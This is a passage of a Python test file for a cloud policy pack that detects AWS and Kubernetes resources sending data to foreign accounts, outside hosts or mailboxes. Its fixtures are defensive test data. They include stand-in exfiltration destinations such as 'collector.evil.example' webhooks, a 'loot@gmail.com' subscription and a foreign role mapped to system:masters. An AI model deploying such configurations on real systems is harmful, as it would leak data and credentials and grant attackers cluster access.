    data to that account. Own-account ARNs, plain names (the machine's own account) and run-time choices pass."""
    pack.configure(OWN_CONFIG)
    found = findings(pack, _machine(_workflow(OTHER)))
    where = [re.search(r"\((definition\.[^)]*)\)", message)[1] for _, message in found]
    assert sorted(where) == sorted([
        "definition.States.A.Resource", "definition.States.P.Branches[0].States.Q.Parameters.QueueUrl",
        "definition.States.M.ItemProcessor.States.T.Arguments.TopicArn", "definition.States.W.Resource",
        "definition.States.E.Parameters.Entries[0].EventBusName", "definition.States.L.Parameters.FunctionName"]), found
    assert all(f"account {OTHER} is a foreign account" in message for _, message in found), found
    assert findings(pack, _machine(_workflow(OWN))) == []
    names = {"A": {"Type": "Task", "Resource": "arn:aws:states:::sqs:sendMessage", "Next": "B",
                   "Parameters": {"QueueUrl.$": "$.queue", "MessageBody": "x"}},
             "B": {"Type": "Task", "Resource": "arn:aws:states:::lambda:invoke", "Next": "C",
                   "Parameters": {"FunctionName": "my-function", "Payload.$": "$"}},
             "C": {"Type": "Task", "Resource": "arn:aws:states:::events:putEvents", "End": True,
                   "Parameters": {"Entries": [{"EventBusName": "default", "Detail": {}}]}}}
    assert findings(pack, _machine(names)) == []


def test_an_unreadable_or_oversized_definition_cannot_be_checked(pack) -> None:
    pack.configure(OWN_CONFIG)
    bad = ("aws:sfn/stateMachine:StateMachine", "bad", {"roleArn": f"arn:aws:iam::{OWN}:role/sm",
                                                        "definition": "{not json"})
    [(_, message)] = findings(pack, bad)
    assert message.startswith("bad: cannot check: definition is not the Amazon States Language JSON"), message
    states: dict = {"A": {"Type": "Pass", "End": True}}
    for _ in range(30):
        states = {"P": {"Type": "Parallel", "End": True, "Branches": [{"StartAt": "P", "States": states}]}}
    [(_, message)] = findings(pack, _machine(states, "deep"))
    assert message.startswith("deep: cannot check: definition is nested deeper than 24 levels"), message


def test_a_started_machines_function_is_one_finding_of_aws_057(pack) -> None:
    """A state machine the stack starts (a schedule naming it): AGID-AWS-057 judges the function its task runs,
    another account's included; AGID-AWS-064 leaves that value to it and still judges the queue it writes to."""
    pack.configure(OWN_CONFIG)
    states = {"A": {"Type": "Task", "Resource": f"arn:aws:lambda:us-east-1:{OTHER}:function:x", "Next": "Q"},
              "Q": {"Type": "Task", "Resource": "arn:aws:states:::sqs:sendMessage", "End": True,
                    "Parameters": {"QueueUrl": f"https://sqs.us-east-1.amazonaws.com/{OTHER}/drop"}}}
    machine = res(*_machine(states, "flow"))
    schedule = res("aws:scheduler/schedule:Schedule", "tick", {
        "scheduleExpression": "rate(1 hour)", "flexibleTimeWindow": {"mode": "OFF"},
        "target": {"arn": f"arn:aws:states:us-east-1:{OWN}:stateMachine:flow", "roleArn": f"arn:aws:iam::{OWN}:role/s"}},
        (machine.urn,))
    found = findings(pack, machine, schedule)
    assert [(n, "Parameters.QueueUrl" in m) for n, m in found] == [("flow", True)], found
    assert any(name == "flow" and f"{OTHER}:function:x" in message
               for name, message in stack_findings(pack, "AGID-AWS-057", [machine, schedule]))
    # not started: AGID-AWS-064 judges the function too
    assert len(findings(pack, machine)) == 2


def test_aws_auth_keys_are_read_as_eks_reads_them_whatever_their_case(pack) -> None:
    """red18 r18-3: aws-iam-authenticator unmarshals mapRoles with Go's encoding/json, which matches `RoleArn`,
    `ROLEARN` and `Groups` to rolearn and groups: the exact-key reading saw no principal and no group."""
    pack.configure(OWN_CONFIG)
    roles = f"- RoleArn: arn:aws:iam::{OTHER}:role/anything\n  Username: x\n  Groups: [system:masters]\n"
    users = f"- USERARN: arn:aws:iam::{OTHER}:user/alice\n  groups: [ops]\n"
    found = findings(pack, aws_auth(mapRoles=roles, mapUsers=users))
    assert [message.split(" (data.", 1)[1].split(")", 1)[0] for _, message in found] == ["mapRoles[0]", "mapUsers[0]"]
    k8s = [d for d in pack.analyze("kubernetes:core/v1:ConfigMap", "aws-auth", urn("kubernetes:core/v1:ConfigMap", "aws-auth"),
                                   aws_auth(mapRoles=roles)[2]) if d.policy_name == "AGID-K8S-007"]
    assert len(k8s) == 1 and "in Kubernetes group system:masters" in k8s[0].message
    # one key in two spellings: which one EKS reads cannot be told
    clash = f"- rolearn: arn:aws:iam::{OWN}:role/ok\n  RoleArn: arn:aws:iam::{OTHER}:role/x\n  groups: [ops]\n"
    k8s = [d for d in pack.analyze("kubernetes:core/v1:ConfigMap", "aws-auth", urn("kubernetes:core/v1:ConfigMap", "aws-auth"),
                                   aws_auth(mapRoles=clash)[2]) if d.policy_name == "AGID-K8S-007"]
    assert len(k8s) == 1 and "holds one key in two spellings" in k8s[0].message


@pytest.fixture(scope="module")
def gate_pack():
    """The pack as `agentid preview` starts it: it names the mocks' invented account."""
    from agentid.analyzer_client import PackProcess
    from agentid.mock_engine import MOCK_ACCOUNT
    from agentid_policy_packs.analysis.aws_accounts import MOCK_ACCOUNTS_ENV
    from tests.policy.test_pack_grpc import PACK
    assert MOCK_ACCOUNT == "123456789012"
    with PackProcess.start(PACK, timeout=60, env={MOCK_ACCOUNTS_ENV: MOCK_ACCOUNT}) as running:
        yield running


def test_a_literal_in_the_mocks_account_is_not_own_but_a_stack_output_is(gate_pack) -> None:
    """red17 r17-1 (AGID-AWS-064's half): under the gate the mocks put every stack resource's ARN in 123456789012, so
    an ARN of that account is own when an Output of a stack resource flowed into the input (propertyDependencies);
    the same ARN written as a literal names that account's resource at deployment: foreign."""
    gate_pack.configure(OWN_CONFIG)
    queue = res("aws:sqs/queue:Queue", "drop", {})
    mock_arn, mock_url = "arn:aws:sqs:us-east-1:123456789012:drop", "https://sqs.us-east-1.amazonaws.com/123456789012/drop"

    def destination(output: bool | None) -> list[StackResource]:
        """True: the queue's Output flowed into each input; False: the engine says none did; None: nothing sent."""
        def deps(key: str) -> dict | None:
            return None if output is None else {key: [queue.urn] if output else [], "roleArn": []}

        return [queue,
                StackResource("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", "dest",
                              urn("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", "dest"),
                              {"functionName": "fn", "destinationConfig": {"onSuccess": {"destination": mock_arn}}},
                              dependencies=[queue.urn] if output else [],
                              property_dependencies=deps("destinationConfig")),
                StackResource("aws:iot/topicRule:TopicRule", "iot", urn("aws:iot/topicRule:TopicRule", "iot"),
                              {"enabled": True, "sql": "SELECT * FROM '#'", "sqlVersion": "2016-03-23",
                               "sqs": [{"queueUrl": mock_url, "roleArn": f"arn:aws:iam::{OWN}:role/r",
                                        "useBase64": False}]},
                              dependencies=[queue.urn] if output else [], property_dependencies=deps("sqs")),
                StackResource("aws:sfn/stateMachine:StateMachine", "sm", urn("aws:sfn/stateMachine:StateMachine", "sm"),
                              {"roleArn": f"arn:aws:iam::{OWN}:role/sm", "definition": json.dumps({
                                  "StartAt": "A", "States": {"A": {"Type": "Task", "End": True,
                                                                   "Resource": "arn:aws:states:::sqs:sendMessage",
                                                                   "Parameters": {"QueueUrl": mock_url}}}})},
                              dependencies=[queue.urn] if output else [],
                              property_dependencies=deps("definition"))]

    assert findings(gate_pack, *destination(True)) == []
    for literal in (False, None):
        found = findings(gate_pack, *destination(literal))
        assert sorted(n for n, _ in found) == ["dest", "iot", "sm"], found
        assert all(m.endswith(f"account 123456789012 is a foreign account (the stack's own: {OWN}); it is the gate "
                              "mocks' placeholder account, written as a literal, not an Output of a resource of this "
                              "stack") for _, m in found), found


def test_an_aws_endpoint_url_of_a_stack_resource_passes_a_literal_one_does_not(pack) -> None:
    """A Transfer server's identity provider URL (every user's credentials go there) that is the stack's API stage
    invoke URL (its Output flowed into `url`) passes; the same host written as a literal (any account's API) or
    another host, even from an Output, blocks."""
    pack.configure(OWN_CONFIG)
    stage = res("aws:apigateway/stage:Stage", "idp", {"stageName": "prod", "restApi": "abc", "deployment": "d"})
    invoke = "https://abc123.execute-api.us-east-1.amazonaws.com/prod"

    def server(url: str, output: bool) -> StackResource:
        type_ = "aws:transfer/server:Server"
        return StackResource(type_, "sftp", urn(type_, "sftp"), {"identityProviderType": "API_GATEWAY", "url": url},
                             dependencies=[stage.urn] if output else [],
                             property_dependencies={"url": [stage.urn] if output else []})

    assert findings(pack, stage, server(invoke, True)) == []
    [(_, literal)] = findings(pack, stage, server(invoke, False))
    assert "sends the data to host 'abc123.execute-api.us-east-1.amazonaws.com'" in literal
    assert [n for n, _ in findings(pack, stage, server("https://idp.evil.example/prod", True))] == ["sftp"]


def test_messages_sent_to_outside_hosts_mailboxes_and_phones_block_unless_the_gate_lists_them(pack) -> None:
    """red20 r20-10: an SNS https or e-mail subscription and an EventBridge API destination sent every message or
    event outside and passed; a Firehose HTTP endpoint to the same host was already AGID-AWS-064."""
    def subscription(name, protocol, endpoint):
        return ("aws:sns/topicSubscription:TopicSubscription", name,
                {"topic": "arn:aws:sns:eu-west-1:123456789012:t", "protocol": protocol, "endpoint": endpoint})
    destination = ("aws:cloudwatch/eventApiDestination:EventApiDestination", "api",
                   {"connectionArn": "arn:aws:events:eu-west-1:123456789012:connection/c/x",
                    "httpMethod": "POST", "invocationEndpoint": "https://collector.evil.example/in"})
    cases = [subscription("web", "https", "https://collector.evil.example/in"),
             subscription("mail", "email", "loot@gmail.com"), subscription("json", "email-json", "x@evil.example"),
             subscription("sms", "sms", "+15555550100"), destination]
    for case in cases:
        [(name, message)] = findings(pack, case)
        assert name == case[1], message
    pack.configure({"all": {"ownHosts": ["hooks.acme.example"], "ownEmailDomains": ["acme.example"]}})
    try:
        for case in cases:
            assert [n for n, _ in findings(pack, case)] == [case[1]], case  # still outside
        own = [subscription("web", "https", "https://Hooks.Acme.Example/in"),
               subscription("mail", "email", "ops@acme.example"), subscription("json", "email-json", "x@eu.acme.example"),
               (*destination[:2], {**destination[2], "invocationEndpoint": "https://hooks.acme.example/events"})]
        for case in own:
            assert findings(pack, case) == [], case
    finally:
        pack.configure({})
